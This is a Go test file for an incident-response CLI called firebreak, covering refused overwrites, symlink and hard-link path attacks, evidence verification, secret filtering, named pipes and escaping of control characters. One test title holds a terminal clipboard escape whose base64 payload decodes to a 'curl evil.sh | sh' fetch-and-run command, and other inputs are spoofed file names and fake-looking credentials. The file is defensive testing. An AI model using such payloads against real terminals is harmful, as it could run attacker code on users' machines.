package cli

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/firebreak-dev/firebreak/evidence"
)

// Outputs used to replace any regular file: -o <incident>/journal/alice.jsonl
// destroyed the journal; a 0444 file was replaced without a word. Now an
// output inside the firebreak home is refused whatever the path or link,
// an existing file needs --force, and nothing changes on a refusal.
func TestOutputsNeverOverwriteTheRecord(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	inc := filepath.Join(e.home, "incidents", id)
	link := filepath.Join(t.TempDir(), "innocent-dir")
	os.Symlink(filepath.Join(inc, "journal"), link)
	linkFile := filepath.Join(t.TempDir(), "innocent.md")
	os.Symlink(filepath.Join(inc, "journal", "alice.jsonl"), linkFile)
	before := e.snapshot()
	for _, target := range []string{
		filepath.Join(inc, "journal", "alice.jsonl"),
		filepath.Join(inc, "playbook.yaml"),
		filepath.Join(inc, "incident.json"),
		filepath.Join(inc, "exports", "mine.md"),
		filepath.Join(inc, "journal", "new.jsonl"),
		filepath.Join(link, "alice.jsonl"),
		linkFile,
		filepath.Join(e.home, "contacts.yaml"),
	} {
		for _, cmd := range [][]string{
			{"export", id, "-o", target},
			{"export", id, "-o", target, "--force"},
			{"comms", "render", id, "key-compromise", "--allow-missing", "-o", target, "--force"},
		} {
			e.fail(1, "inside the firebreak home", cmd...)
		}
	}
	after := e.snapshot()
	if len(after) != len(before) {
		t.Fatalf("files appeared or vanished: %d -> %d", len(before), len(after))
	}
	for p, b := range before {
		if after[p] != b {
			t.Fatalf("%s changed", p)
		}
	}

	// Outside the home: a new file is written, an existing one (0444 too)
	// only with --force.
	out := filepath.Join(t.TempDir(), "record.md")
	os.WriteFile(out, []byte("keep me"), 0o444)
	e.fail(1, "exists", "export", id, "-o", out)
	if b, _ := os.ReadFile(out); string(b) != "keep me" {
		t.Fatal("replaced without --force")
	}
	e.ok("export", id, "-o", out, "--force")
	if b, _ := os.ReadFile(out); !strings.Contains(string(b), "# Incident "+id) {
		t.Fatalf("not replaced with --force: %q", b)
	}
	// Default names never collide: two exports in the same second are two
	// files.
	p1 := strings.TrimSpace(e.ok("export", id))
	p2 := strings.TrimSpace(e.ok("export", id))
	if p1 == p2 || !strings.HasSuffix(p2, "-2.md") {
		t.Fatalf("second export %s replaced the first %s", p2, p1)
	}
}

// A message written for people carries no raw terminal escapes, whatever
// the incident data holds.
func TestCommsFilesCarryNoControlBytes(t *testing.T) {
	e := newEnv(t)
	evil := "evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \u202egnp.exe"
	id := e.open("--title", evil)
	path := strings.TrimSpace(e.ok("comms", "render", id, "incident-advisory", "--allow-missing", "--set", "remediation="+evil))
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(string(b), "\x1b\x07\u202e") {
		t.Fatalf("raw control bytes in %s: %q", path, b)
	}
	if !strings.Contains(string(b), `\x1b]52`) {
		t.Fatalf("the escape was dropped instead of shown: %q", b)
	}
}

// Quarantine used to take the workspace: the home with --recursive moved
// incident.json, the journal and the snapshot into evidence.
func TestQuarantineRefusesTheWorkspace(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	inc := filepath.Join(e.home, "incidents", id)
	before := e.snapshot()
	for _, p := range []string{
		e.home, filepath.Dir(e.home), inc,
		filepath.Join(inc, "incident.json"), filepath.Join(inc, "journal", "alice.jsonl"),
	} {
		e.fail(1, "cannot be taken", "evidence", "quarantine", id, p, "--recursive", "--yes")
	}
	for _, p := range []string{filepath.Join(inc, "incident.json"), filepath.Join(inc, "journal", "alice.jsonl")} {
		e.fail(1, "cannot be taken", "key", "isolate", id, p, "--yes")
	}
	after := e.snapshot()
	for p, b := range before {
		if after[p] != b {
			t.Fatalf("%s changed", p)
		}
	}
	e.ok("incident", "show", id)
}

// evidence verify trusted the manifest: a file rewritten with manifest.json
// and hashes.txt passed, and rm -rf evidence/ gave "OK 0 evidence file(s)".
// The journal's evidence.added records are the reference now.
func TestEvidenceVerifyChecksAgainstTheJournal(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	src := filepath.Join(t.TempDir(), "mod.wasm")
	os.WriteFile(src, []byte("\x00asm evil"), 0o600)
	e.ok("evidence", "quarantine", id, src, "--yes")
	e.ok("evidence", "verify", id)
	ev := filepath.Join(e.home, "incidents", id, "evidence")

	// Rewrite the file and the manifest and hashes.txt to match.
	stored := filepath.Join(ev, "mod.wasm")
	os.Chmod(stored, 0o600)
	os.WriteFile(stored, []byte("\x00asm good"), 0o400)
	for _, f := range []string{"manifest.json", "hashes.txt"} {
		b, _ := os.ReadFile(filepath.Join(ev, f))
		os.WriteFile(filepath.Join(ev, f), []byte(strings.ReplaceAll(string(b), evidence.SumBytes([]byte("\x00asm evil")), evidence.SumBytes([]byte("\x00asm good")))), 0o600)
	}
	e.fail(1, "does not verify", "evidence", "verify", id)

	os.RemoveAll(ev)
	out, _, code := e.run("evidence", "verify", id)
	if code != 1 || !strings.Contains(out, "FAIL evidence/mod.wasm: missing") {
		t.Fatalf("deleted evidence: exit %d\n%s", code, out)
	}
}

// A file named with a newline in a quarantined directory used to have its
// original removed, then "could not be recorded: summary must be one
// line". Every file is recorded now, names of any bytes exactly.
func TestQuarantineRecordsFilesOfAnyName(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	dir := filepath.Join(t.TempDir(), "drop")
	os.Mkdir(dir, 0o700)
	for _, n := range []string{"new\nline", "latin\xe9.txt", "esc\x1b[2J", "ok.txt"} {
		os.WriteFile(filepath.Join(dir, n), []byte(n), 0o600)
	}
	e.ok("evidence", "quarantine", id, dir, "--recursive", "--yes")
	e.ok("evidence", "verify", id)
	e.ok("timeline", "verify", id)
	out := e.ok("timeline", id, "--kind", "evidence")
	if strings.Count(out, "evidence.added") != 4 || strings.ContainsAny(out, "\x1b") {
		t.Fatalf("timeline:\n%q", out)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Fatalf("the emptied directory is still there: %v", err)
	}
	// A newline in a name is shown as an escape, never as a space that
	// would name another file.
	if list := e.ok("evidence", "list", id); !strings.Contains(list, `new\x0aline`) || strings.Contains(list, "new line") {
		t.Fatalf("evidence list:\n%s", list)
	}
}

// comms render --set field=<token> wrote the token into the message; the
// journal missed tokens glued to words. One filter refuses both.
func TestSecretsAreRefusedOnEveryPathIn(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	tok := "ghp_" + strings.Repeat("x9Y8", 9)
	before := e.snapshot()
	e.fail(1, "looks like it contains a GitHub token", "comms", "render", id, "incident-advisory", "--allow-missing", "--set", "remediation=use "+tok)
	e.fail(1, "looks like it contains a GitHub token", "comms", "render", id, "incident-advisory", "--allow-missing", "-o", "-", "--set", "remediation=GITHUB_TOKEN_"+tok)
	e.fail(1, "looks like it contains a GitHub token", "note", id, "set x"+tok+"_suffix")
	e.fail(1, "Ed25519 private key", "note", id, "key MC4CAQAwBQYDK2VwBCIEIGJ1bGxldHByb29mYnV0bm90cmVhbGx5YWtleQ")
	after := e.snapshot()
	if len(after) != len(before) {
		t.Fatalf("a refused secret left files: %d -> %d", len(before), len(after))
	}
	for p, b := range before {
		if after[p] != b {
			t.Fatalf("%s changed", p)
		}
	}
}

// A named pipe as input used to block forever, deaf to SIGINT and SIGTERM.
// Every input is checked to be a regular file on the open file itself.
func TestNamedPipesAsInputAreRefusedAtOnce(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip("no named pipes here:", err)
	}
	key := filepath.Join(dir, "k")
	pass := filepath.Join(dir, "pass")
	os.WriteFile(pass, []byte("correct horse\n"), 0o600)
	e.ok("key", "generate", "--out", key, "--passphrase-file", pass)
	file := filepath.Join(dir, "feed.json")
	os.WriteFile(file, []byte("{}"), 0o600)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for _, args := range [][]string{
			{"hash", fifo},
			{"verify", file, "--sig", fifo, "--pubkey", key + ".pub.pem"},
			{"verify", fifo, "--sig", fifo, "--pubkey", key + ".pub.pem"},
			{"sign", file, "--key", key + ".pem", "--passphrase-file", fifo, "-o", filepath.Join(dir, "s.sig")},
			{"key", "fingerprint", fifo},
			{"contacts", "--contacts", fifo},
			{"wasm", "show", fifo},
		} {
			_, errs, code := e.run(args...)
			if code == 0 || !strings.Contains(errs, "named pipe") {
				t.Errorf("firebreak %s: exit %d, %q", strings.Join(args, " "), code, errs)
			}
		}
	}()
	// Not a timing assertion: a blocked read would hang the test binary;
	// this only turns that hang into a message.
	select {
	case <-done:
	case <-time.After(2 * time.Minute):
		t.Fatal("a command blocked on a named pipe")
	}
}

// Smaller refusals that used to pass or to say the wrong thing.
func TestSmallRefusals(t *testing.T) {
	e := newEnv(t)
	// Milestones out of order made a negative time to detect read "met".
	e.fail(1, "milestones must be in order", "incident", "open", "--playbook", "INC-1", "--title", "x", "--compromised", "-10m", "--detected", "-1h")
	id := e.open("--detected", "-1h")
	e.fail(1, "milestones must be in order", "milestone", id, "compromised", "--at", "-10m")
	e.fail(1, "milestones must be in order", "milestone", id, "contained", "--at", "-2h")
	e.ok("milestone", id, "compromised", "--at", "-3h")
	// Ids that cannot be ids say so (not "there are no incidents yet").
	for _, bad := range []string{"../" + id, "a/b", ".."} {
		errs := e.fail(1, "is not an incident id", "incident", "show", bad)
		if strings.Contains(errs, "no incidents yet") {
			t.Fatalf("%s: %s", bad, errs)
		}
	}
	// key isolate --to FILE said "no free name".
	dir := t.TempDir()
	key := filepath.Join(dir, "k")
	e.ok("key", "generate", "--out", key)
	notDir := filepath.Join(dir, "file")
	os.WriteFile(notDir, []byte("x"), 0o600)
	e.fail(1, "not a directory", "key", "isolate", id, key+".pem", "--to", notDir, "--yes")
	if _, err := os.Stat(key + ".pem"); err != nil {
		t.Fatal("the key moved")
	}
	// A deadline that wrapped around.
	pb := filepath.Join(dir, "pb.yaml")
	os.WriteFile(pb, []byte("id: X-1\nversion: \"1\"\ntitle: t\nkind: incident\nseverity: High\nphases:\n  - id: p\n    title: p\n    steps:\n      - id: s\n        title: s\n        deadline: 99999999999w\n"), 0o600)
	out, _, code := e.run("playbooks", "validate", pb)
	if code != 1 || !strings.Contains(out, "pb.yaml:12:19: step deadline: duration \"99999999999w\" is longer than a deadline may be") {
		t.Fatalf("exit %d: %s", code, out)
	}
}

// Found by an attacker after the first round: paths through a link
// followed by "..", key stores inside the home, hard links, a second
// opening event, planted leftovers, raw formatting characters in JSON, a
// pipe as simulator state, symlink targets that are not UTF-8.
func TestAttackedPathsAndRecords(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	inc := filepath.Join(e.home, "incidents", id)
	s := t.TempDir()
	os.Mkdir(filepath.Join(s, "journal"), 0o700)
	lj := filepath.Join(s, "lj")
	os.Symlink(filepath.Join(inc, "journal"), lj)
	key := filepath.Join(s, "k")
	e.ok("key", "generate", "--out", key)
	f := filepath.Join(s, "f.txt")
	os.WriteFile(f, []byte("data"), 0o600)
	before := e.snapshot()
	for _, args := range [][]string{
		{"export", id, "-o", lj + "/../journal/alice.jsonl", "--force"},
		{"comms", "render", id, "incident-advisory", "--allow-missing", "-o", lj + "/../incident.json", "--force"},
		{"sign", f, "--key", key + ".pem", "-o", lj + "/../incident.json", "--yes"},
		{"checksums", "make", f, "-o", lj + "/../playbook.yaml", "--yes"},
		{"key", "generate", "--out", lj + "/../journal/eve"},
		{"contacts", "--init", "--contacts", lj + "/../journal/eve.jsonl"},
	} {
		_, errs, code := e.run(args...)
		if code == 0 || !strings.Contains(errs, "inside the firebreak home") {
			t.Errorf("firebreak %s: exit %d %q", strings.Join(args, " "), code, errs)
		}
	}
	// key isolate --to inside the home put a private key into journal/.
	e.fail(1, "inside the firebreak home", "key", "isolate", id, key+".pem", "--to", filepath.Join(inc, "journal"), "--yes")
	// A hard link to the header, quarantined, removed the header.
	hl := filepath.Join(s, "incident.json")
	if err := os.Link(filepath.Join(inc, "incident.json"), hl); err == nil {
		e.fail(1, "more than one hard link", "evidence", "quarantine", id, hl, "--yes")
		os.Remove(hl)
	}
	after := e.snapshot()
	for p, b := range before {
		if after[p] != b {
			t.Fatalf("%s changed", p)
		}
	}
	if len(after) != len(before) {
		t.Fatalf("files appeared: %d -> %d", len(before), len(after))
	}
	e.ok("timeline", "verify", id)

	// A second opening event, at the start of a planted actor file, cannot
	// vouch for a rewritten header.
	other := newEnv(t)
	other.vars["FIREBREAK_ACTOR"] = "eve"
	oid := other.open("--drill")
	if oid == id {
		ob, _ := os.ReadFile(filepath.Join(other.home, "incidents", oid, "journal", "eve.jsonl"))
		hb, _ := os.ReadFile(filepath.Join(other.home, "incidents", oid, "incident.json"))
		os.Chmod(filepath.Join(inc, "incident.json"), 0o600)
		os.WriteFile(filepath.Join(inc, "incident.json"), hb, 0o400)
		os.WriteFile(filepath.Join(inc, "journal", "eve.jsonl"), ob, 0o600)
		e.fail(1, "more than one opening event", "incident", "show", id)
		out, _, code := e.run("timeline", "verify", id)
		if code != 1 || !strings.Contains(out, "opening") {
			t.Fatalf("timeline verify: exit %d\n%s", code, out)
		}
	} else {
		t.Fatalf("ids differ: %s %s", id, oid)
	}
}

func TestPlantedLeftoversAndFormattingCharacters(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	inc := filepath.Join(e.home, "incidents", id)
	// A planted file with a planted .incoming- twin passed evidence verify.
	ev := filepath.Join(inc, "evidence")
	os.WriteFile(filepath.Join(ev, "forged.bin"), []byte("forged"), 0o400)
	os.Link(filepath.Join(ev, "forged.bin"), filepath.Join(ev, ".incoming-bbbbbbbbbbbb-forged.bin"))
	out, errs, code := e.run("evidence", "verify", id)
	if code != 1 || !strings.Contains(out, "LEFTOVER") || !strings.Contains(errs, "evidence clean") {
		t.Fatalf("planted leftover: exit %d\n%s%s", code, out, errs)
	}
	// Clean cannot prove the planted file is this incident's: it removes
	// the twin, leaves the file, and verify keeps failing until a person
	// removes it.
	if out := e.ok("evidence", "clean", id); !strings.Contains(out, "LEFT IN PLACE") {
		t.Fatalf("clean: %s", out)
	}
	e.fail(1, "does not verify", "evidence", "verify", id)
	os.Remove(filepath.Join(ev, "forged.bin"))
	e.ok("evidence", "verify", id)

	// Raw U+202E and U+009B went into the JSON export.
	e.ok("note", id, "rlo \u202egnp.exe csi \u009b31m")
	dir := t.TempDir()
	os.Mkdir(filepath.Join(dir, "q"), 0o700)
	os.WriteFile(filepath.Join(dir, "q", "c1\u009bx"), []byte("x"), 0o600)
	// A link whose target is not UTF-8 made the quarantine's own record
	// impossible to write.
	os.Symlink("../target\x1b[31m\xe9", filepath.Join(dir, "q", "link"))
	e.ok("evidence", "quarantine", id, filepath.Join(dir, "q"), "--recursive", "--yes")
	e.ok("timeline", "verify", id)
	e.ok("evidence", "verify", id)
	path := strings.TrimSpace(e.ok("export", id, "--format", "json"))
	b, _ := os.ReadFile(path)
	if strings.ContainsAny(string(b), "\u202e\u009b\x1b") {
		t.Fatalf("raw formatting characters in %s", path)
	}
	// A named pipe as the simulator's state blocked forever.
	fifo := filepath.Join(dir, "state")
	if syscall.Mkfifo(fifo, 0o600) == nil {
		e.fail(1, "named pipe", "gh", "sim", "--state", fifo)
	}
}

// A record names the stores inside its incident relative to it: a copied
// or moved home still verifies.
func TestEvidenceVerifiesAfterTheHomeMoves(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	src := filepath.Join(t.TempDir(), "m.wasm")
	os.WriteFile(src, []byte("\x00asm"), 0o600)
	e.ok("evidence", "quarantine", id, src, "--yes")
	moved := filepath.Join(t.TempDir(), "elsewhere")
	if err := os.Rename(e.home, moved); err != nil {
		t.Fatal(err)
	}
	e.home = moved
	e.ok("evidence", "verify", id)
	e.ok("timeline", "verify", id)
}

// Second attack round: links and hard links planted inside the home, and
// stores of other incidents.
func TestPlantedLinksInsideTheHome(t *testing.T) {
	e := newEnv(t)
	id := e.open()
	inc := filepath.Join(e.home, "incidents", id)
	dir := t.TempDir()
	f := filepath.Join(dir, "h.txt")
	os.WriteFile(f, []byte("x"), 0o600)
	journal := filepath.Join(inc, "journal", "alice.jsonl")
	before, _ := os.ReadFile(journal)

	// hashes.txt as a link to the journal: the hash line went into it.
	os.Symlink("../journal/alice.jsonl", filepath.Join(inc, "evidence", "hashes.txt"))
	e.fail(1, "not a file of its own", "evidence", "add", id, f, "--yes")
	os.Remove(filepath.Join(inc, "evidence", "hashes.txt"))
	// evidence/ itself as a link to journal/.
	os.Rename(filepath.Join(inc, "evidence"), filepath.Join(inc, "evidence.real"))
	os.Symlink("journal", filepath.Join(inc, "evidence"))
	e.fail(1, "not a directory", "evidence", "add", id, f, "--yes")
	os.Remove(filepath.Join(inc, "evidence"))
	os.Rename(filepath.Join(inc, "evidence.real"), filepath.Join(inc, "evidence"))
	if after, _ := os.ReadFile(journal); !strings.HasPrefix(string(after), string(before)) || strings.Contains(string(after), "h.txt\n") {
		t.Fatal("the journal was written through a link")
	}
	if ents, _ := os.ReadDir(filepath.Join(inc, "journal")); len(ents) != 1 {
		t.Fatalf("files appeared in journal/: %v", ents)
	}
	e.ok("timeline", "verify", id)

	// Another incident's offline key store is evidence too.
	other := e.open("--title", "other")
	k := filepath.Join(dir, "k")
	e.ok("key", "generate", "--out", k)
	offline := filepath.Join(dir, "offline")
	e.ok("key", "isolate", other, k+".pem", "--to", offline, "--yes")
	e.fail(1, "evidence directory", "evidence", "quarantine", id, filepath.Join(offline, "k.pem"), "--yes")
	e.ok("evidence", "verify", other)
	// A store that contains the home.
	e.fail(1, "contains the firebreak home", "key", "isolate", id, f, "--to", filepath.Dir(e.home), "--yes")

	// A header that is a named pipe hung incident list.
	hdr := filepath.Join(inc, "incident.json")
	os.Rename(hdr, hdr+".real")
	if syscall.Mkfifo(hdr, 0o600) == nil {
		out := e.ok("incident", "list", "--json")
		if !strings.Contains(out, "unreadable") || !strings.Contains(out, "named pipe") {
			t.Fatalf("list: %s", out)
		}
	}
}
